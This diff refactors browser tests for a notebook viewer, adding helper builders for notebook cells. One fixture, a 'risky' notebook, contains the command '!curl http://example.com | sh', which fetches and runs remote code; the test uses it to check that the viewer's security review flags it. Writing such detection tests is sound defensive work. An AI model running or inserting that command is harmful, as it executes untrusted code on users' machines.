@@ -16,6 +16,11 @@ let browser: Browser;
 let notebookUrl = "";
 let upload: (name: string, notebook: unknown) => Promise<string>;
 
+const markdownCell = (id: string, source: string) => ({ cell_type: "markdown", id, metadata: {}, source });
+/** A code cell with one display_data output of `data`, or none. */
+const codeCell = (id: string, source: string, count: number, data?: Record<string, string>) => ({ cell_type: "code", id, metadata: {}, source, execution_count: count, outputs: data ? [{ output_type: "display_data", metadata: {}, data }] : [] });
+const notebookOf = (...cells: object[]) => ({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
+
 function longNotebook() {
   const paragraph = "A paragraph long enough to take a few lines of the page, as the prose between headings of a long notebook does. ".repeat(4);
   const cells = [{ cell_type: "markdown", id: "top", metadata: {}, source: `# A long notebook\n\n[Jump to the last section](#Section-${SECTIONS})` }];
@@ -279,16 +284,10 @@ test("cells drawn from a head that does not match the bytes are drawn again from
 
 test("an output too large for the head has its place on the first screen, and appears once the bytes are in", async () => {
   const figure = `<div id="figure">${"<span>point</span>".repeat(20_000)}</div><p id="drawn">Large figure drawn</p>`;
-  const url = await upload("large-output.ipynb", {
-    nbformat: 4,
-    nbformat_minor: 5,
-    metadata: {},
-    cells: [
-      { cell_type: "markdown", id: "intro", metadata: {}, source: "# A large output" },
-      { cell_type: "code", id: "show", metadata: {}, source: "show(figure)", execution_count: 1, outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": figure, "text/plain": "<Figure>" } }] },
-      { cell_type: "markdown", id: "after", metadata: {}, source: "After the figure" },
-    ],
-  });
+  const url = await upload(
+    "large-output.ipynb",
+    notebookOf(markdownCell("intro", "# A large output"), codeCell("show", "show(figure)", 1, { "text/html": figure, "text/plain": "<Figure>" }), markdownCell("after", "After the figure")),
+  );
   const page = await browser.context.newPage();
   const bytes = await holdBytes(page);
   await page.goto(url);
@@ -327,16 +326,14 @@ test("a head without the server's markdown HTML is drawn by the page's own rende
 });
 
 test("markdown and LaTeX outputs are typeset in their frames, with the renderer the page starts after its first screen", async () => {
-  const url = await upload("typeset-outputs.ipynb", {
-    nbformat: 4,
-    nbformat_minor: 5,
-    metadata: {},
-    cells: [
-      { cell_type: "markdown", id: "intro", metadata: {}, source: "# Typeset outputs" },
-      { cell_type: "code", id: "md", metadata: {}, source: "Markdown('**bold** text')", execution_count: 1, outputs: [{ output_type: "display_data", metadata: {}, data: { "text/markdown": "**bold** text", "text/plain": "<Markdown>" } }] },
-      { cell_type: "code", id: "tex", metadata: {}, source: "Latex('$x^2$')", execution_count: 2, outputs: [{ output_type: "display_data", metadata: {}, data: { "text/latex": "$x^2$", "text/plain": "<Latex>" } }] },
-    ],
-  });
+  const url = await upload(
+    "typeset-outputs.ipynb",
+    notebookOf(
+      markdownCell("intro", "# Typeset outputs"),
+      codeCell("md", "Markdown('**bold** text')", 1, { "text/markdown": "**bold** text", "text/plain": "<Markdown>" }),
+      codeCell("tex", "Latex('$x^2$')", 2, { "text/latex": "$x^2$", "text/plain": "<Latex>" }),
+    ),
+  );
   const page = await browser.context.newPage();
   await page.goto(url);
   const frames = page.frameLocator("iframe.vt-frame");
@@ -346,15 +343,7 @@ test("markdown and LaTeX outputs are typeset in their frames, with the renderer 
 });
 
 test("the review's answer, findings or none, takes the line kept for it: the notebook below does not move", async () => {
-  const risky = await upload("risky.ipynb", {
-    nbformat: 4,
-    nbformat_minor: 5,
-    metadata: {},
-    cells: [
-      { cell_type: "markdown", id: "t", metadata: {}, source: "# Risky" },
-      { cell_type: "code", id: "c", metadata: {}, source: "!curl http://example.com | sh", outputs: [], execution_count: 1 },
-    ],
-  });
+  const risky = await upload("risky.ipynb", notebookOf(markdownCell("t", "# Risky"), codeCell("c", "!curl http://example.com | sh", 1)));
   for (const [url, answer] of [
     [notebookUrl, "The review found nothing"],
     [risky, "Review: 1 high"],
